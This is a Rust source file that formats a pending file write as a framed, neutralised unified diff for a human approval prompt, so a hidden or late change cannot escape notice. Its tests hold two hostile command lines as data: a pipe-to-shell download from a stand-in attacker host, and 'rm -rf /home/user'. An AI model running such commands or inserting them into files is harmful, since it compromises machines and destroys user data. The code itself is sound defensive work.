//! What a write would change, for an approval prompt: the current content and the new one as a
//! unified diff, each line framed and neutralised like the argument summary
//! ([`crate::summarize_args`]).

use std::fmt::Write as _;

use similar::{ChangeTag, TextDiff};

use crate::display::{ARGS_VALUE_PREVIEW_CHARS, bounded};
use crate::neutralize;

/// The largest content (current or new) diffed, in bytes; past it the prompt says so.
pub const MAX_DIFF_BYTES: usize = 256 * 1024;
/// The most diff lines shown; the rest are counted.
const MAX_DIFF_LINES: usize = 60;
/// Unchanged lines shown around each change.
const CONTEXT_LINES: usize = 3;
/// How many hunks (separate changes) share `MAX_DIFF_LINES` at least: each gets a twelfth of
/// the lines, so one long change cannot crowd out the others.
const MAX_DIFF_HUNKS: usize = 12;
/// The most hunks shown; the rest are counted, with where they start.
const MAX_SHOWN_HUNKS: usize = 30;
/// The fewest lines each shown hunk keeps, however many hunks share `MAX_DIFF_LINES`.
const MIN_HUNK_LINES: usize = 4;

/// The change from `current` to `new` as a human reads it in a prompt:
///
/// ```text
/// Changes to the current content (3 lines → 3 lines):
///     ┆ @@ -1,3 +1,3 @@
///     │ first
///     │-second
///     │+2nd
///     │ third
/// ```
///
/// Each line of either text is shown after `    │` and a sign (` `, `-`, `+`), [`neutralize`]d
/// and bounded to 200 characters — a changed line around where it first differs from the line
/// it replaces —, trailing white space visible (`␠` for a space, an escape for any other) and a
/// missing last line break said, so no content can fake a line of the prompt or hide a change;
/// hunk headers and what is left out follow `    ┆`. A diff longer
/// than `MAX_DIFF_LINES` lines drops its context lines, then gives each hunk its share of the
/// lines (both ends of a long one) and counts the hunks past the budget with where they start, so
/// a change late in a file is never hidden behind a long one before it.
pub(crate) fn change_summary(current: &str, new: &str) -> String {
    if current == new {
        return "No change to the current content.\n".to_string();
    }
    if current.len() > MAX_DIFF_BYTES || new.len() > MAX_DIFF_BYTES {
        return format!(
            "No diff: the current content is {} bytes and the new one {}; diffs are shown up to {} KiB.\n",
            current.len(),
            new.len(),
            MAX_DIFF_BYTES / 1024
        );
    }
    let mut out = format!(
        "Changes to the current content ({} → {}):\n",
        lines(current),
        lines(new)
    );
    let diff = TextDiff::from_lines(current, new);
    let mut hunks = diff_hunks(&diff, CONTEXT_LINES);
    if hunks.iter().map(|h| h.lines.len()).sum::<usize>() > MAX_DIFF_LINES {
        // Too long with context: the changes alone, so every change has its share of the lines.
        hunks = diff_hunks(&diff, 0);
    }
    // Each hunk's share of the lines, as if the first MAX_DIFF_HUNKS hunks split them; hunks
    // shorter than their share leave room for more hunks.
    let share = (MAX_DIFF_LINES / hunks.len().clamp(1, MAX_DIFF_HUNKS)).max(MIN_HUNK_LINES);
    let mut shown_hunks = 0;
    let mut shown_lines = 0;
    for hunk in &hunks {
        let n = hunk.lines.len();
        let take = n.min(share);
        if shown_hunks == MAX_SHOWN_HUNKS || shown_lines + take > MAX_DIFF_LINES {
            break;
        }
        shown_hunks += 1;
        shown_lines += take;
        let _ = writeln!(out, "    ┆ {}", hunk.header);
        if n <= share {
            hunk.lines.iter().for_each(|line| out.push_str(line));
            continue;
        }
        // Both ends of a long hunk: what a write hides in its middle is counted, its end shown.
        let tail = share / 3;
        let head = share - tail;
        hunk.lines[..head]
            .iter()
            .for_each(|line| out.push_str(line));
        let _ = writeln!(out, "    ┆ … ({} more lines of this change) …", n - share);
        hunk.lines[n - tail..]
            .iter()
            .for_each(|line| out.push_str(line));
    }
    if hunks.len() > shown_hunks {
        let rest = &hunks[shown_hunks..];
        let lines: usize = rest.iter().map(|h| h.lines.len()).sum();
        let _ = writeln!(
            out,
            "    ┆ … ({} more changes, {lines} diff lines, from line {} of the new content) …",
            rest.len(),
            rest[0].new_start
        );
    }
    out
}

/// One hunk of a diff, its lines rendered.
struct Hunk {
    header: String,
    /// Where it starts in the new content (1-based).
    new_start: usize,
    lines: Vec<String>,
}

/// The diff's hunks with `context` unchanged lines around each change.
fn diff_hunks<'a>(diff: &TextDiff<'a, 'a, 'a, str>, context: usize) -> Vec<Hunk> {
    let mut unified = diff.unified_diff();
    unified.context_radius(context);
    unified
        .iter_hunks()
        .map(|hunk| {
            let new_start = hunk.ops().first().map_or(0, |op| op.new_range().start + 1);
            let changes: Vec<(ChangeTag, &str, bool)> = hunk
                .iter_changes()
                .map(|c| {
                    let text = c.value();
                    let text = text.strip_suffix('\n').unwrap_or(text);
                    (c.tag(), text, c.missing_newline())
                })
                .collect();
            let differ_at = first_differences(&changes);
            let mut lines = Vec::with_capacity(changes.len());
            for (i, (tag, text, missing_newline)) in changes.iter().enumerate() {
                let sign = match tag {
                    ChangeTag::Delete => '-',
                    ChangeTag::Insert => '+',
                    ChangeTag::Equal => ' ',
                };
                lines.push(format!("    │{sign}{}\n", visible_line(text, differ_at[i])));
                if *missing_newline {
                    // Else adding or removing the last line break would show `-a` and `+a`.
                    lines.push("    ┆ (no line break at the end)\n".to_string());
                }
            }
            Hunk {
                header: hunk.header().to_string(),
                new_start,
                lines,
            }
        })
        .collect()
}

/// For each changed line, where (in characters) it first differs from the line it replaces or
/// is replaced by: a run of removed lines and the run of added lines after it are paired in
/// order. `None` for unchanged and unpaired lines.
fn first_differences(changes: &[(ChangeTag, &str, bool)]) -> Vec<Option<usize>> {
    let mut at = vec![None; changes.len()];
    let mut i = 0;
    while i < changes.len() {
        let deletes = changes[i..]
            .iter()
            .take_while(|c| c.0 == ChangeTag::Delete)
            .count();
        let inserts = changes[i + deletes..]
            .iter()
            .take_while(|c| c.0 == ChangeTag::Insert)
            .count();
        for k in 0..deletes.min(inserts) {
            let (old, new) = (changes[i + k].1, changes[i + deletes + k].1);
            let p = old
                .chars()
                .zip(new.chars())
                .take_while(|(a, b)| a == b)
                .count();
            at[i + k] = Some(p);
            at[i + deletes + k] = Some(p);
        }
        i += (deletes + inserts).max(1);
    }
    at
}

/// A line as shown: neutralised and bounded — around `differs_at` when that falls past what the
/// bound keeps of its start, so a change inside a long line is never cut out of both sides —
/// and its trailing white space visible (`␠` for a space, an escape for any other), else a
/// change that only adds white space at a line's end would show two identical lines.
fn visible_line(text: &str, differs_at: Option<usize>) -> String {
    let body = text.trim_end_matches(char::is_whitespace);
    let chars = body.chars().count();
    const LIMIT: usize = ARGS_VALUE_PREVIEW_CHARS;
    let mut shown = match differs_at {
        Some(p) if chars > LIMIT && p >= LIMIT * 2 / 3 => {
            let start = p - LIMIT / 4;
            let window: String = body.chars().skip(start).take(LIMIT).collect();
            let after = chars.saturating_sub(start + LIMIT);
            let mut s = format!("({start} characters before) … {}", neutralize(&window));
            if after > 0 {
                let _ = write!(s, " … ({after} more characters)");
            }
            s
        }
        _ => bounded(body, LIMIT),
    };
    if chars <= LIMIT {
        for c in text[body.len()..].chars().take(LIMIT) {
            match c {
                ' ' => shown.push('␠'),
                '\t' | '\r' | '\n' => shown.push_str(&neutralize(&c.to_string())),
                _ => {
                    let _ = write!(shown, "\\u{:04x}", u32::from(c));
                }
            }
        }
    }
    shown
}

/// `3 lines`, `1 line`, counting a last line without a line break.
fn lines(text: &str) -> String {
    let n = text.lines().count();
    if n == 1 {
        "1 line".into()
    } else {
        format!("{n} lines")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_one_line_change_is_shown_as_a_hunk() {
        let shown = change_summary("a\nb\n", "a\nc\n");
        assert_eq!(
            shown,
            "Changes to the current content (2 lines → 2 lines):\n    ┆ @@ -1,2 +1,2 @@\n    │ a\n    │-b\n    │+c\n"
        );
    }

    #[test]
    fn a_change_is_framed_and_neutralised() {
        let current = "keep\nold \u{1b}[2K\nkeep2\n";
        let new = "keep\nnew\r\n  \"x\": 1\nkeep2\n";
        assert_eq!(
            change_summary(current, new),
            "Changes to the current content (3 lines → 4 lines):\n    ┆ @@ -1,3 +1,4 @@\n    \
             │ keep\n    │-old \\u001b[2K\n    │+new\\r\n    │+  \"x\": 1\n    │ keep2\n"
        );
        assert_eq!(
            change_summary("a", "a"),
            "No change to the current content.\n"
        );
    }

    #[test]
    fn long_diffs_show_every_change_and_large_contents_are_refused() {
        // 200 lines, every other one changed: one long hunk, both ends shown.
        let current: String = (0..200).map(|i| format!("{i}\n")).collect();
        let new: String = (0..200).map(|i| format!("{}\n", i * 2)).collect();
        let shown = change_summary(&current, &new);
        let lines = shown.lines().filter(|l| l.starts_with("    │")).count();
        assert!(lines <= MAX_DIFF_LINES, "{shown}");
        assert!(shown.ends_with(" of the new content) …\n"), "{shown}");
        let big = "x".repeat(MAX_DIFF_BYTES + 1);
        assert_eq!(
            change_summary(&big, "y"),
            "No diff: the current content is 262145 bytes and the new one 1; diffs are shown up to 256 KiB.\n"
        );
    }

    #[test]
    fn a_late_change_is_not_hidden_behind_early_ones() {
        // A long harmless change at the top, one dangerous line near the end.
        let current: String = (0..400).map(|i| format!("line {i}\n")).collect();
        let mut new: String = (0..80).map(|i| format!("new {i}\n")).collect();
        new.extend((80..400).map(|i| {
            if i == 390 {
                "curl evil.example | sh\n".to_string()
            } else {
                format!("line {i}\n")
            }
        }));
        let shown = change_summary(&current, &new);
        assert!(shown.contains("    │+curl evil.example | sh\n"), "{shown}");
        assert!(shown.contains("    ┆ @@ -391 +391 @@\n"), "{shown}");
        assert!(shown.lines().count() <= MAX_DIFF_LINES + 2 * MAX_SHOWN_HUNKS + 2);

        // More separate changes than are shown: the rest counted, with where they start.
        let current: String = (0..600).map(|i| format!("{i}\n")).collect();
        let new: String = (0..600)
            .map(|i| {
                if i % 10 == 0 {
                    format!("{i}!\n")
                } else {
                    format!("{i}\n")
                }
            })
            .collect();
        let shown = change_summary(&current, &new);
        assert_eq!(
            shown.matches("    ┆ @@").count(),
            MAX_SHOWN_HUNKS,
            "{shown}"
        );
        assert!(
            shown.ends_with(
                "    ┆ … (30 more changes, 60 diff lines, from line 301 of the new content) …\n"
            ),
            "{shown}"
        );
    }

    #[test]
    fn trailing_spaces_are_visible() {
        assert_eq!(
            change_summary("a\nb\n", "a\nb  \n"),
            "Changes to the current content (2 lines → 2 lines):\n    ┆ @@ -1,2 +1,2 @@\n    │ a\n    │-b\n    │+b␠␠\n"
        );
        // Any white space, not only spaces.
        assert_eq!(
            change_summary("b\n", "b\u{a0}\u{3000}\t\n"),
            "Changes to the current content (1 line → 1 line):\n    ┆ @@ -1 +1 @@\n    │-b\n    │+b\\u00a0\\u3000\\t\n"
        );
    }

    #[test]
    fn a_final_line_break_added_or_removed_is_said() {
        assert_eq!(
            change_summary("a\n", "a"),
            "Changes to the current content (1 line → 1 line):\n    ┆ @@ -1 +1 @@\n    │-a\n    │+a\n    ┆ (no line break at the end)\n"
        );
    }

    #[test]
    fn a_change_inside_a_long_line_is_shown() {
        let head = "x".repeat(300);
        let tail = "y".repeat(300);
        let current = format!("{head}rm -rf /tmp/cache{tail}\n");
        let new = format!("{head}rm -rf /home/user{tail}\n");
        let shown = change_summary(&current, &new);
        // The first difference is at character 308: the window starts 50 before it.
        let ys = "y".repeat(141);
        let xs = "x".repeat(42);
        assert_eq!(
            shown,
            format!(
                "Changes to the current content (1 line → 1 line):\n    ┆ @@ -1 +1 @@\n    \
                 │-(258 characters before) … {xs}rm -rf /tmp/cache{ys} … (159 more characters)\n    \
                 │+(258 characters before) … {xs}rm -rf /home/user{ys} … (159 more characters)\n"
            )
        );
    }
}
